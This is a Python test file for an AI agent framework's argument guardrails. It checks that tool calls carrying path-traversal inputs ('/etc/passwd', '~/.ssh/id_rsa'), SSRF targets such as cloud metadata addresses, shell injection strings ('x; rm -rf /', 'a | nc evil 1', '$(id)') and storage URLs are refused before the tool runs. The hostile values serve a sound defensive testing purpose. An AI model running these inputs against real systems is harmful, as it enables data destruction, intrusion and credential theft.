"""Argument policies declared per tool: refused before the tool runs, with a reason the model reads."""

from __future__ import annotations

import json
import os
from pathlib import Path
from typing import Any

import pytest
from gecko_guardrails import ArgumentViolation, Guardrails
from gecko_guardrails.arguments import check_path, check_shell, check_storage_url, check_url

from gecko.core.agent import Agent
from gecko.core.toolbox import Tool
from gecko.testing.models import ScriptedModel, tool_calls_reply
from gecko.types import Role, ToolCall


class Calls:
    def __init__(self) -> None:
        self.seen: list[dict[str, str]] = []

    def tool(self, name: str) -> Tool:
        async def run(value: str) -> str:
            self.seen.append({"tool": name, "value": value})
            return "ran"

        return Tool(run, name=name, description=f"{name} a value")


async def run_once(name: str, value: str, calls: Calls) -> str:
    """One agent run whose model calls `name(value)` once; the observation the model got back."""
    model = ScriptedModel(
        [tool_calls_reply(ToolCall(id="c1", name=name, arguments=json.dumps({"value": value}))), "finished"]
    )
    output = await Agent(model, tools=[calls.tool(name)]).run("go")
    observation = output.messages[-2]
    assert (observation.role, observation.tool_call_id) == (Role.TOOL, "c1")
    return observation.text


async def test_path_inside_root_runs(guardrails: Guardrails) -> None:
    guardrails.protect("read_file", paths=["value"])
    calls = Calls()
    target = guardrails.roots[0] / "notes.txt"
    assert await run_once("read_file", str(target), calls) == "ran"
    assert calls.seen == [{"tool": "read_file", "value": str(target)}]


@pytest.mark.parametrize(
    "attack", ["{root}/../secret.txt", "/etc/passwd", "{root}/sub/../../secret.txt", "~/.ssh/id_rsa", "~root/x"]
)
async def test_path_traversal_is_refused_before_the_tool_runs(guardrails: Guardrails, attack: str) -> None:
    guardrails.protect("read_file", paths=["value"])
    calls = Calls()
    text = await run_once("read_file", attack.format(root=guardrails.roots[0]), calls)
    assert calls.seen == []
    assert "blocked by a guardrail" in text
    assert "outside the allowed roots" in text or "starts with '~'" in text


async def test_symlink_out_of_the_root_is_resolved_and_refused(guardrails: Guardrails, tmp_path: Path) -> None:
    guardrails.protect("read_file", paths=["value"])
    outside = tmp_path / "outside.txt"
    outside.write_text("secret")
    link = guardrails.roots[0] / "innocent.txt"
    os.symlink(outside, link)
    calls = Calls()
    text = await run_once("read_file", str(link), calls)
    assert calls.seen == []
    assert str(outside) in text


@pytest.mark.parametrize(
    "url",
    [
        "http://127.0.0.1/admin",
        "http://localhost:8080/",
        "http://169.254.169.254/latest/meta-data/",
        "http://metadata.google.internal/computeMetadata/v1/",
        "http://[::1]/",
        "http://[::ffff:127.0.0.1]/",
        "http://2130706433/",
        "http://0x7f.0.0.1/",
        "http://10.0.0.5/",
        "http://192.168.1.1/",
        "http://100.100.100.200/",
        "http://0.0.0.0/",
        "http://127.1/",
        "http://localhost./",
        "http://example.com@127.0.0.1/",
        "http://[fe80::1]/",
        "http://[fd00:ec2::254]/",
        "http://100.64.0.1/",
        "file:///etc/passwd",
        "gopher://127.0.0.1:6379/_SET",
    ],
)
async def test_ssrf_targets_are_refused(guardrails: Guardrails, url: str) -> None:
    guardrails.protect("fetch", urls=["value"])
    calls = Calls()
    text = await run_once("fetch", url, calls)
    assert calls.seen == []
    assert "blocked by a guardrail" in text


async def test_dns_names_are_resolved_before_the_check(resolver: list[str]) -> None:
    reason = await check_url("http://intranet.loopback.test/", allow_hosts=(), deny_hosts=(), allow_private=False)
    assert reason == "the host 'intranet.loopback.test' (127.0.0.1) is a loopback address"
    assert resolver == ["intranet.loopback.test"]


async def test_localhost_names_are_loopback_without_a_lookup(resolver: list[str]) -> None:
    reason = await check_url("http://app.localhost/", allow_hosts=(), deny_hosts=(), allow_private=False)
    assert reason == "the host app.localhost is a loopback address"
    assert resolver == []


async def test_public_addresses_pass_and_host_lists_apply() -> None:
    assert await check_url("https://93.184.215.14/page", allow_hosts=(), deny_hosts=(), allow_private=False) is None
    assert await check_url("https://8.8.8.8/", allow_hosts=(), deny_hosts=("8.8.8.8",), allow_private=False)
    listed = await check_url(
        "https://api.example.com/", allow_hosts=(".example.com",), deny_hosts=(), allow_private=False
    )
    assert listed is None
    unlisted = await check_url("https://8.8.8.8/", allow_hosts=(".example.com",), deny_hosts=(), allow_private=False)
    assert unlisted is not None
    assert "not in the allowed hosts" in unlisted
    assert await check_url("http://10.1.2.3/", allow_hosts=(), deny_hosts=(), allow_private=True) is None


async def test_unresolvable_hosts_are_refused() -> None:
    reason = await check_url("http://no-such-host.invalid/", allow_hosts=(), deny_hosts=(), allow_private=False)
    assert reason is not None
    assert "does not resolve" in reason


SHELL = ["x; rm -rf /", "a && b", "a | nc evil 1", "$(id)", "`id`", "a > /etc/x", "line\nnext", "~/.ssh"]
STORAGE = ["s3://bucket/key", "file:///etc/passwd", "redis://cache:6379/0", "see sqlite:///db.sqlite", "gs://b/o"]


@pytest.mark.parametrize(
    ("declared", "value", "reason"),
    [
        *(({"shell": False}, value, "shell metacharacter") for value in SHELL),
        *(({"storage_urls": False}, value, "storage URL") for value in STORAGE),
    ],
)
async def test_shell_text_and_storage_urls_are_refused_where_the_tool_takes_neither(
    guardrails: Guardrails, declared: dict[str, Any], value: str, reason: str
) -> None:
    guardrails.protect("lookup", **declared)
    calls = Calls()
    text = await run_once("lookup", value, calls)
    assert calls.seen == []
    assert reason in text


async def test_undeclared_tools_are_not_checked(guardrails: Guardrails) -> None:
    calls = Calls()
    assert await run_once("lookup", "$(id); ../../etc/passwd", calls) == "ran"


def test_checks_name_what_they_found() -> None:
    assert check_shell("safe text") is None
    assert check_storage_url("https://example.com") is None
    assert check_shell("a|b") == "the value contains the shell metacharacter '|'"


async def test_paths_with_a_control_character_are_refused(tmp_path: Path) -> None:
    assert await check_path("a\x00b", (tmp_path,)) == "the path 'a\\x00b' contains the control character '\\x00'"
    assert await check_path("%0a/bin/cat", (tmp_path,)) == "the path '%0a/bin/cat' contains the control character '\\n'"


async def test_arguments_nested_deeper_than_python_recurses_are_refused(guardrails: Guardrails) -> None:
    guardrails.protect("grep", shell=False)
    deep = '{"value": ' + "[" * 100_000 + "]" * 100_000 + "}"
    with pytest.raises(ArgumentViolation, match="nesting limit"):
        await guardrails.check_arguments(ToolCall(id="c1", name="grep", arguments=deep), "agent")
